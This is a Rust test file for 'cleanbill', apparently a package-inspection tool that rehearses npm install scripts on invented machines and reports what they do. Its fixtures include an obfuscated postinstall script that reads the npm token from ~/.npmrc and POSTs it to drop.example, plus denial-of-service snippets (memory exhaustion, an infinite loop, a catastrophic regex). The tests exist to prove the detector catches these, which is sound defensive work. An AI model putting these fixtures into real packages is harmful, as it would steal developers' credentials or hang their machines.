//! `cleanbill rehearse` and what a rehearsal adds to `inspect`: the story, its proofs, and an end to what has none.
#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    reason = "a test that cannot go on says so"
)]
mod common;

use common::Machine;

/// A package whose postinstall is this text.
fn hook(machine: &Machine, source: &str) {
    machine.write(
        "package/package.json",
        r#"{"name":"left","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
    );
    machine.write("package/setup.js", source);
}

const THEFT: &str = "const fs = require('fs'), os = require('os');\n\
    const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
    const name = ['f', 'e', 't', 'c', 'h'].join('');\n\
    globalThis[name]('https://drop.example/in', { method: 'POST', body: Buffer.from(token).toString('hex') });\n";

#[test]
fn the_story_is_told_and_ends_with_its_proof() {
    let machine = Machine::new();
    hook(&machine, THEFT);
    let answer = machine.run(machine.home(), &["rehearse", "./package"]);
    let said = answer.stdout();
    assert_eq!(answer.code(), 1, "{said}");
    for words in [
        "on linux-developer",
        "script postinstall",
        "reads `~/.npmrc`",
        "sends POST `https://drop.example/in`",
        "taking npm token",
        "proven: secrets of this machine leave it: drop.example, at install",
    ] {
        assert!(said.contains(words), "{words}: {said}");
    }
    let answer = machine.run(machine.home(), &["rehearse", "./package", "--format", "json"]);
    let value: serde_json::Value = serde_json::from_str(&answer.stdout()).unwrap();
    assert_eq!(value["schema"], "cleanbill.rehearse/v1");
    assert_eq!(value["facts"][0]["chain"], "FLO-01");
}

#[test]
fn an_inspection_counts_what_the_stage_saw_and_can_do_without() {
    let machine = Machine::new();
    hook(&machine, THEFT);
    let both = machine.run(machine.home(), &["inspect", "./package"]);
    let said = both.stdout();
    assert_eq!(both.code(), 1, "{said}");
    assert!(said.contains("rehearsed on:"), "{said}");
    assert!(said.contains("secret-sent-out"), "{said}");
    let page = machine.run(machine.home(), &["inspect", "./package", "--format", "html"]);
    assert!(page.stdout().contains("Rehearsed on invented machines"));
    let alone = machine.run(machine.home(), &["inspect", "./package", "--no-rehearsal"]);
    assert!(!alone.stdout().contains("rehearsed on:"), "{}", alone.stdout());
}

#[test]
fn an_honest_install_script_stays_unremarked() {
    let machine = Machine::new();
    hook(
        &machine,
        "if (!process.env.CI) console.log('Thank you for installing. Sponsor us at https://home.example/');",
    );
    let answer = machine.run(machine.home(), &["rehearse", "./package"]);
    assert_eq!(answer.code(), 0, "{}", answer.stdout());
    assert!(answer.stdout().contains("nothing harmful was carried out"));
}

/// What the stage's own counts cannot see is ended from outside: the reading stands, and says so.
#[test]
fn bombs_cost_their_own_rehearsal_and_nothing_else() {
    let machine = Machine::new();
    for bomb in [
        "let text = 'xy'; for (;;) text = text + text;",
        "const all = []; for (;;) all.push(new Uint8Array(1e8).fill(7));",
        "/^(a|a)*$/.test('a'.repeat(60) + 'b');",
    ] {
        hook(&machine, bomb);
        let answer = machine.run(machine.home(), &["rehearse", "./package"]);
        let said = format!("{}{}", answer.stdout(), answer.stderr());
        assert!(
            said.contains("ended") || said.contains("died") || said.contains("Invalid"),
            "{bomb}: {said}"
        );
        let inspected = machine.run(machine.home(), &["inspect", "./package"]);
        assert!(
            inspected.stdout().contains("left@1.0.0"),
            "{bomb}: {}",
            inspected.stderr()
        );
    }
}
